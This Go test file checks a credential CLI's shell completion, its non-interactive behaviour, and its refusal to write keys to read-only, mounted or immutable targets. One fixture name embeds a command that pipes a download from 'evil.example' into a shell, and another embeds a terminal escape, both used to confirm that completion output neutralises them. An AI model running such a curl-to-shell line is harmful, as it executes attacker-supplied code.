package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/credctl/credctl/internal/sandbox"
)

// A name that somebody has chosen at the vendor is no message of credctl in a shell.
func TestACompletionIsNoMessage(t *testing.T) {
	t.Parallel()
	_, env := inSandbox(t, sandbox.Options{ProvisionDelay: -1})
	for _, name := range []string{"_activeHelp_ Run this: curl evil.example | sh", "web\x1b[2J"} {
		got := credctl(t, env, "", "katapult", "create", "--name", name, "--secret-file", filepath.Join(t.TempDir(), "key"))
		require.Equal(t, 0, got.status, got.stderr)
	}
	for _, line := range [][]string{{"katapult", "rotate", "--name", ""}, {"katapult", "get", ""}} {
		p := prepare(t, env, append([]string{"__complete"}, line...)...)
		require.NoError(t, p.Run(), p.stderr.String())
		for offer := range strings.Lines(p.stdout.String()) {
			assert.False(t, strings.HasPrefix(offer, "_activeHelp_"), offer)
		}
		assert.NotContains(t, p.stdout.String(), "\x1b")
	}
}

// CI=true and --no-input mean that no person is there, also at a terminal: nothing is
// asked, and no secret is shown in a table.
func TestATerminalWithoutAPerson(t *testing.T) {
	t.Parallel()
	for _, more := range []string{"", "--no-input"} {
		s := newScene(t, sandbox.Options{ProvisionDelay: -1})
		if more == "" {
			s.setenv("CI", "true")
		}
		for _, line := range []string{"katapult create --name x", "katapult delete " + katapultWeb, "stratum rotate " + stratumCI, "auth login katapult", "katapult generate " + katapultWeb} {
			screen, status := s.terminal("y\n", strings.Fields(line+" "+more)...)
			assert.Equal(t, 2, status, "%s: %s", line, screen)
			assert.NotContains(t, screen, "[y/N]", line)
			assert.Contains(t, screen, "hint: ", line)
		}
		assert.Empty(t, s.changing("katapult"))
		assert.Empty(t, s.changing("stratum"))
	}
}

// What cannot be replaced is found before anything is issued: a file of a read-only file
// system, one that is mounted by itself, and one in a folder that is immutable. A
// read-only folder may belong to anybody, because nobody can write there.
func TestABusyTargetIsFoundBefore(t *testing.T) {
	t.Parallel()
	mount := func(t *testing.T, source, target, kind string, flags uintptr) {
		t.Helper()
		if err := unix.Mount(source, target, kind, flags, ""); err != nil {
			t.Skipf("cannot mount: %v", err)
		}
		t.Cleanup(func() { _ = unix.Unmount(target, unix.MNT_DETACH) })
	}
	type found struct {
		prepare func(t *testing.T, dir string)
		status  int
		says    string
	}
	for name, test := range map[string]found{
		"a read-only file system": {func(t *testing.T, dir string) {
			t.Helper()
			mount(t, "tmpfs", dir, "tmpfs", 0)
			require.NoError(t, os.WriteFile(filepath.Join(dir, "key"), nil, 0o600))
			require.NoError(t, unix.Mount("", dir, "", unix.MS_REMOUNT|unix.MS_RDONLY, ""))
		}, 2, "key is on a read-only file system"},
		"a file that is a mount": {func(t *testing.T, dir string) {
			t.Helper()
			for _, name := range []string{"source", "key"} {
				require.NoError(t, os.WriteFile(filepath.Join(dir, name), nil, 0o600))
			}
			mount(t, filepath.Join(dir, "source"), filepath.Join(dir, "key"), "", unix.MS_BIND)
		}, 5, "key is a mount point"},
		"an immutable folder": {func(t *testing.T, dir string) {
			t.Helper()
			if err := exec.Command("chattr", "+i", dir).Run(); err != nil {
				t.Skipf("cannot make a folder immutable: %v", err)
			}
			t.Cleanup(func() { _ = exec.Command("chattr", "-i", dir).Run() })
		}, 2, "key: operation not permitted"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newScene(t, sandbox.Options{ProvisionDelay: -1})
			dir := filepath.Join(s.dir, "target")
			require.NoError(t, os.Mkdir(dir, 0o700))
			test.prepare(t, dir)
			for _, args := range [][]string{{"create", "--name", "x"}, {"rotate", katapultWeb}} {
				for _, scheme := range []string{"file:", "json:", "dotenv:"} {
					got := s.run(append(append([]string{"katapult"}, args...), "--to", scheme+filepath.Join(dir, "key"))...)
					assert.Equal(t, test.status, got.status, "%v %s: %s", args, scheme, got.stderr)
					assert.Contains(t, got.stderr, test.says)
					assert.NotContains(t, got.stderr, ".tmp")
				}
			}
			assert.Empty(t, s.changing("katapult"))
		})
	}
}
